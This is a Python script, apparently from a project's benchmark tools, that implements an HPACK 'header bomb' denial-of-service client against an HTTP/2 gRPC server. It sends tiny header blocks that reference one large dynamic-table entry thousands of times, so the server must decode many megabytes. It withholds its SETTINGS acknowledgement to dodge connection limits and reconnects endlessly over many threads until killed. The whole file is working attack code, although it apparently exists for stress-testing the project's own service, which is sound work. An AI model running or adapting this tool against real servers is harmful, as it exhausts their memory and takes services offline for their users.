"""A hostile client: header blocks of a few kilobytes that a server decodes to many megabytes.

    python -m bench.header_bomb ADDRESS CONNECTIONS

Each connection adds one header to HPACK's dynamic table, then opens streams whose header block repeats it, with one
byte each time. The header is as large as the table on half of the connections, and minimal on the others. The client
does not acknowledge the server's settings, so that the server may not enforce its connection limits yet. After 250
streams, or when the server closes the connection, the client opens another one, until the process is killed.
"""

from __future__ import annotations

import socket
import sys
import threading
import time

from bench.http2 import END_HEADERS, END_STREAM, HEADERS, HeaderEncoder, frame, grpc_headers, literal_header, preface

PATH = "/boardkeeper.v1.Games/SubmitCommands"
REPETITIONS = 3900
STREAMS = 250
"""The streams that gRPC's server accepts on one connection; it resets further ones immediately."""

LARGE, SMALL = 3900, 1
"""The length of a header's value. A field counts 32 bytes more than its text, and the table has 4,096 bytes."""


def attack(address: str, size: int) -> None:
    """Attack over one connection after another until the process is killed."""
    host, _, port = address.rpartition(":")
    while True:
        try:
            with socket.create_connection((host, int(port)), 5) as connection:
                send_bombs(connection, size)
        except OSError:
            time.sleep(0.01)


def send_bombs(connection: socket.socket, size: int) -> None:
    """Send bombs on one connection up to its limit, or until the server closes it."""
    base = b"".join(literal_header(*field) for field in grpc_headers(PATH, "localhost"))
    first = base + HeaderEncoder().encode([("x-bomb", "A" * size)])
    repeated = base + HeaderEncoder.newest * REPETITIONS
    connection.sendall(preface())
    for number in range(1, 2 * STREAMS, 2):
        connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, number, first if number == 1 else repeated))
        try:
            if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
                return
        except BlockingIOError:
            pass


def main() -> None:
    """Attack over several connections at the same time."""
    address, connections = sys.argv[1:]
    for number in range(int(connections)):
        size = SMALL if number % 2 else LARGE
        threading.Thread(target=attack, args=(address, size), daemon=True).start()
    threading.Event().wait()


if __name__ == "__main__":
    main()
